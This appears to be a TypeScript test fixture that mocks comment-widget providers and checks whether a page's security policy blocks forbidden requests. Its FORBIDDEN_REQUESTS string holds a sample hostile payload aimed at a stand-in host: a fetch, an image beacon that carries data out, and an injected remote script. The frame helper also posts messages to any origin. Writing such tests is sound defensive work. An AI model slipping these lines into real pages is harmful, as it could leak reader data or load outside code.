/**
 * Local stand-ins for what each provider serves, written after its documentation. Each notes in `window.arrived` what a
 * page handed it, asks for what the real one asks for, and tries once what it may not.
 */

/** One provider with what its hosts answer and what must arrive there. */
export interface StandIn {
  readonly settings: Readonly<Record<string, unknown>> & { readonly provider: string };
  /** Front matter of the thread, beside its title. */
  readonly front?: Readonly<Record<string, string>>;
  /** Bodies by address without query. */
  readonly answers: Readonly<Record<string, string>>;
  /** What arrives on a dark page in Traditional Chinese. */
  readonly dark: unknown;
  /** What has arrived once the page turned light. */
  readonly light: unknown;
  /** Words that the reader sees. */
  readonly shows: string;
}

const [NEWS, PIXEL, CODE] = ["a", "b.png", "c.js"].map((name) => `https://forbidden.example/${name}`);

/** Addresses that no policy allows. */
export const FORBIDDEN: ReadonlySet<string | undefined> = new Set([NEWS, PIXEL, CODE]);

/** What a hostile script would try: its own server, a script from there, a picture that carries news. */
export const FORBIDDEN_REQUESTS = `fetch("${NEWS}").catch(() => {}); new Image().src = "${PIXEL}";
document.head.append(Object.assign(document.createElement("script"), { src: "${CODE}" }));`;

/** A script that runs by itself, and tries what it may not. */
export const script = (body: string) => `(() => { ${body}\n${FORBIDDEN_REQUESTS} })();`;

/** Attributes of an element as an object. */
export const ATTRIBUTES = "const of = (e) => Object.fromEntries([...e.attributes].map((a) => [a.name, a.value]));";

/** A frame that says hello, and passes on to the page what it is told. */
export const frame = (hello: string) =>
  `<!DOCTYPE html><title>t</title><p>留言框</p><script>onmessage = (e) => parent.postMessage({ told: e.data }, "*"); parent.postMessage(${hello}, "*");</script>`;

/** Notes what the frame was told. */
export const LISTEN = "addEventListener('message', (e) => { if (e.data.told) window.arrived.told = e.data.told; });";

/** Path and address of the thread, and a server of one's own. */
export const PATH = "/tea/2016/talk/";
export const ADDRESS = `https://archive.example${PATH}`;
export const TALK = "https://talk.example";
